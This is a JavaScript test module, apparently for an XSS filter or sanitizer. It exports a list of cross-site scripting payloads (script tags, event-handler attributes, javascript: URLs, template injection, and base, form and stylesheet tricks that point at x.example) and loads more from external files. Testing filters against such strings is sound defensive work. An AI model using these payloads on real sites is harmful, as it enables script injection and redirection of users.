// Lines that have run scripts somewhere. Our own; and, where EVENLINE_XSS_LINES names files
// (separated by ':'), theirs: each line of a .txt, each text of a .json list, each line of code of
// a .md, each request of a .yaml of rule tests (uri and data, as text).
import { readFileSync } from 'node:fs';

export const own = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', 'javascript:alert(1)',
    '"><iframe srcdoc="<script>alert(1)</script>">', '{{constructor.constructor("alert(1)")()}}', '<a href="javascript:alert(1)">x</a>',
    'https://a.example/"onmouseover="alert(1)', '<math><mtext></mtext><script>alert`1`</script>', '<style>@import "//x.example"</style>',
    '<body onload=alert(1)>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<base href="//x.example/"><a href=y>z</a>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src="javascript:alert(1)">', '<form action=//x.example><button>go',
    '<link rel=stylesheet href=//x.example/a.css>', '<video autoplay onloadstart=alert(1) src=x></video>', '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>', '<iframe src="javascript:parent.alert(1)"></iframe>', '<script>top.location="//x.example"</script>',
    '<svg><script href="data:,alert(1)"/></svg>', '<!--><img src=x onerror=alert(1)>-->', '<template><script>alert(1)</script></template>'];

function read(file) {
    const text = readFileSync(file, 'utf8');
    if (file.endsWith('.json')) return JSON.parse(text).filter((one) => typeof one === 'string');
    if (file.endsWith('.md')) return text.split('```').filter((_, i) => i % 2 === 1).flatMap((code) => code.split('\n').slice(1));
    if (file.endsWith('.yaml')) return [...text.matchAll(/^ +(?:uri|data): (.+)$/gm)].map(([, value]) => plain(value));
    return text.split('\n');
}

function plain(value) {
    const text = value.replace(/^(["'])(.*)\1$/, '$2').replaceAll('\\"', '"');
    try {
        return decodeURIComponent(text.replaceAll('+', ' '));
    } catch {
        return text; // not an address after all
    }
}

// Lone halves of characters cannot be sent as UTF-8 by anybody.
const sendable = (line) => line.trim() !== '' && !line.includes('\0') && Buffer.from(line, 'utf8').toString('utf8') === line;

export const lines = () => [...new Set([...own, ...(process.env.EVENLINE_XSS_LINES ?? '').split(':').filter(Boolean).flatMap(read).filter(sendable)])];
